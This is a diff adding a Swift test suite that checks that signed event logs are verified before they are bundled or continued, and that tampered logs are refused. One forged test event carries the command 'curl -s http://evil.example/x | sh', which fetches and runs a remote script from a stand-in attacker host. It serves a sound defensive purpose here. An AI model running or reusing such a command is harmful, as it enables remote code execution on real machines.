@@ -1,0 +1,123 @@
+import EventLog
+import Foundation
+import InstallModel
+import Orchestrator
+import Sealing
+import Testing
+
+/// Never extending trust (FORMAT.md §9.5): `bundle` and every writer that continues a log (`resume`,
+/// `remedy`) check its seals with the host key before adding their own.
+@Suite struct SealTrustTests {
+    struct Clock: EventClock {
+        func now() -> Timestamp { Timestamp(microseconds: 1_767_225_600_000_000) }
+    }
+
+    let directory: String
+    let key: HostKey
+
+    init() throws {
+        directory = FileManager.default.temporaryDirectory.appendingPathComponent("evlog-trust-\(UUID().uuidString)").path
+        key = try HostKey.generate(in: directory + "/key")
+    }
+
+    static let profile = SystemProfile(
+        name: "test", osFamily: "debian", distribution: "debian", version: "12", arch: "x86_64", initSystem: .none,
+        packageManagers: [.apt], isRoot: true, hasSudo: false, inContainer: true, externallyManagedPython: true)
+
+    /// A plan recorded the way a run records it, sealed with `key`; `crashed`: the writer dies after
+    /// the step's output, before the step ends.
+    func recordedLog(crashed: Bool = false) throws -> String {
+        let path = directory + "/p-trust0000001.evlog"
+        let step = Step(id: "install-ripgrep", label: "install ripgrep", action: .postInstall(CommandParameters(argv: ["true"])))
+        let plan = Plan(id: PlanID("p-trust0000001"), tools: ["ripgrep"], profile: SealTrustTests.profile, steps: [step])
+        let writer = try LogWriter.open(path: path, label: plan.id.rawValue, creator: PlanArchive.creator, createdAtMicros: 1)
+        let recorder = EventRecorder(store: try SealingEventStore.forLog(writer, key: key), clock: Clock())
+        try recorder.record(.planCreated(plan))
+        try recorder.record(.planStarted)
+        try recorder.record(.stepStarted(step: step.id, attempt: 1, command: ["true"]))
+        try recorder.record(.outputChunk(step: step.id, stream: .stdout, data: Array("ripgrep 14.1.1\n".utf8), redacted: false))
+        if crashed {
+            // The writer's own close flushes the output chunk without the store's seal: a crash's tail.
+            try writer.close()
+            return path
+        }
+        try recorder.record(.stepDone(step: step.id, exitCode: 0, durationMicros: 5, note: nil))
+        try recorder.record(.planDone)
+        try recorder.close()
+        return path
+    }
+
+    /// The log re-encoded (every checksum recomputed) after `edit`.
+    func rewritten(_ path: String, edit: (inout [[UInt8]]) -> Void) throws -> String {
+        var records: [[UInt8]] = []
+        let reader = try LogReader(path: path)
+        try reader.forEachRecord { _, _, payload in records.append(Array(payload)) }
+        edit(&records)
+        let forged = directory + "/forged-\(UUID().uuidString).evlog"
+        let writer = try LogWriter.open(path: forged, label: reader.header.label, creator: reader.header.creator, createdAtMicros: reader.header.createdAtMicros)
+        for record in records { try writer.append(record) }
+        try writer.close()
+        return forged
+    }
+
+    static func isSeal(_ payload: [UInt8]) -> Bool { String(decoding: payload, as: UTF8.self).contains(#""type":"log_sealed""#) }
+
+    /// The tampered logs: an edit of `plan_created` with every seal removed, and forged events after the final seal.
+    func tampered() throws -> [String] {
+        let log = try recordedLog()
+        let stripped = try rewritten(log) { records in
+            records = records.filter { !SealTrustTests.isSeal($0) }
+            records[0] = Array(String(decoding: records[0], as: UTF8.self).replacingOccurrences(of: "ripgrep", with: "rIpgrep").utf8)
+        }
+        let forgedTail = try rewritten(log) { records in
+            records.append(Array(#"{"argv":["sh","-c","curl -s http://evil.example/x | sh"],"seq":90,"step":"install-ripgrep","time":1767225600000001,"type":"command_started","v":1}"#.utf8).withTag())
+        }
+        return [stripped, forgedTail]
+    }
+
+    @Test func bundleRefusesAnEditedLogAndLeavesNoFile() throws {
+        defer { try? FileManager.default.removeItem(atPath: directory) }
+        for log in try tampered() {
+            let output = directory + "/host.evb"
+            #expect(throws: SealTrustError.self) {
+                try PlanBundle.write(log: log, to: output, profile: SealTrustTests.profile, bundledAt: Clock().now(), key: key)
+            }
+            #expect(!FileManager.default.fileExists(atPath: output))
+            #expect(try FileManager.default.contentsOfDirectory(atPath: directory).allSatisfy { !$0.hasPrefix(".host.evb") })
+        }
+    }
+
+    @Test func aWriterContinuingAnEditedLogIsRefusedBeforeItAddsAnything() throws {
+        defer { try? FileManager.default.removeItem(atPath: directory) }
+        for log in try tampered() {
+            let size = try FileManager.default.attributesOfItem(atPath: log)[.size] as? Int
+            let writer = try LogWriter.open(path: log, label: "", creator: PlanArchive.creator, createdAtMicros: 0)
+            #expect(throws: SealTrustError.self) { try SealingEventStore.forLog(writer, key: key) }
+            try writer.close()
+            #expect(try FileManager.default.attributesOfItem(atPath: log)[.size] as? Int == size)
+        }
+    }
+
+    @Test func aCrashedLogContinuesAndAnIntactOneBundlesToAWholeBundle() throws {
+        defer { try? FileManager.default.removeItem(atPath: directory) }
+        let crashed = try recordedLog(crashed: true)
+        #expect(try SealVerifier.verify(path: crashed, expected: key.publicKey).coverage == .unsealedTail(afterFinal: false))
+        let writer = try LogWriter.open(path: crashed, label: "", creator: PlanArchive.creator, createdAtMicros: 0)
+        let store = try SealingEventStore.forLog(writer, key: key)
+        try store.close()
+        #expect(try SealVerifier.verify(path: crashed, expected: key.publicKey).coverage == .whole)
+
+        let bundle = directory + "/host.evb"
+        try PlanBundle.write(log: crashed, to: bundle, profile: SealTrustTests.profile, bundledAt: Clock().now(), key: key)
+        #expect(try SealVerifier.verify(path: bundle, expected: key.publicKey).coverage == .whole)
+        let cut = try rewritten(bundle) { $0.removeLast(2) }
+        let cutBundle = directory + "/cut.evb"
+        try FileManager.default.moveItem(atPath: cut, toPath: cutBundle)
+        #expect(try SealVerifier.verify(path: cutBundle, expected: key.publicKey).failed)
+    }
+}
+
+extension Array where Element == UInt8 {
+    /// A JSON event payload: tag `0x01` before the object.
+    fileprivate func withTag() -> [UInt8] { [0x01] + self }
+}
